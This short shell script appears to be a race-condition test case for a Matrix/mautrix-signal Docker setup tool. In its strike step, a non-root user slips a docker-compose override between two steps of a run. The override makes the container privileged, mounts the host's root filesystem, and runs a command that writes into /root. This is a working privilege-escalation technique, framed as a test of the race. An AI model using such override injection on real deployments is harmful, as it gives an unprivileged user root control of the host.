# The stack's owner waits for step 16 to write the compose file, and puts an override beside it before step 17 of the same run.
prepare() { give_stack; }
strike() {
  as guest tee /home/guest/override.yml > /dev/null <<'YAML'
services:
  mautrix-signal:
    privileged: true
    entrypoint: ["/bin/sh", "-c", "id -u > /host/root/ran; exec /docker-run.sh"]
    volumes: ["/:/host"]
YAML
  racer_as guest when $matrix moved-to docker-compose.yml cp /home/guest/override.yml $matrix/docker-compose.override.yml
}
clean() {
  rm -f $matrix/docker-compose.override.yml /home/guest/override.yml
  take_stack
}
